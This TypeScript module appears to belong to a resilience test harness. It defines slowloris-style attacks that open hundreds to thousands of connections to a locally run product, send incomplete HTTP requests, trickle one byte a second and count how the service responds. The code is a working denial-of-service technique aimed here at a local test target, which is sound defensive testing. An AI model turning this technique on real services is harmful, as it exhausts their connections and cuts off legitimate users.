import { setMaxListeners } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { type Attack, count, type Outcome } from './attack.ts';
import type { Person, World } from './world.ts';

/** One byte a second of a body that is said to be long. */
export const trickledBodies: Attack = {
  name: 'bodies that trickle',
  habits: ['read', 'write'],
  seconds: { short: 5, full: 60 },
  async prepare(world, attacker, size) {
    const head = `POST /api/v1/workbooks/${attacker.workbookId}/sources HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${attacker.session}\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 90000000\r\n\r\n`;
    return (signal) => holdConnections(world, attacker, size === 'full' ? 400 : 100, head, signal);
  },
};

/** Connections that never send a request, more than one host may have. */
export const silentConnections: Attack = {
  name: 'connections that say nothing',
  habits: ['read', 'write'],
  seconds: { short: 5, full: 30 },
  async prepare(world, attacker, size) {
    return (signal) => holdConnections(world, attacker, size === 'full' ? 2_000 : 400, 'GET /api/v1/me HTTP/1.1\r\nHost: x\r\n', signal);
  },
};

/** Opens many connections, begins a request on each, and goes on with one byte a second. */
async function holdConnections(
  world: World,
  { address }: Person,
  connections: number,
  head: string,
  signal: AbortSignal,
): Promise<Outcome> {
  const outcome: Outcome = new Map();
  setMaxListeners(0, signal);
  const hold = async () => {
    const socket = connect({ host: '127.0.0.1', port: world.product.port, localAddress: address });
    socket.on('error', () => {});
    const closed = new Promise<true>((resolve) => socket.once('close', () => resolve(true)));
    socket.once('data', (data: Buffer) => count(outcome, /^HTTP\/1\.1 (\d+)/.exec(data.toString('latin1'))?.[1] ?? 'something else'));
    socket.write(head);
    const ended = await Promise.race([closed, trickle(socket, signal)]);
    count(outcome, ended ? 'closed by the service' : 'held to the end');
    socket.destroy();
  };
  await Promise.all(Array.from({ length: connections }, hold));
  return outcome;
}

async function trickle(socket: Socket, signal: AbortSignal): Promise<boolean> {
  while (!signal.aborted && !socket.destroyed) {
    socket.write('x');
    await delay(1_000, undefined, { signal }).catch(() => {});
  }
  return false;
}
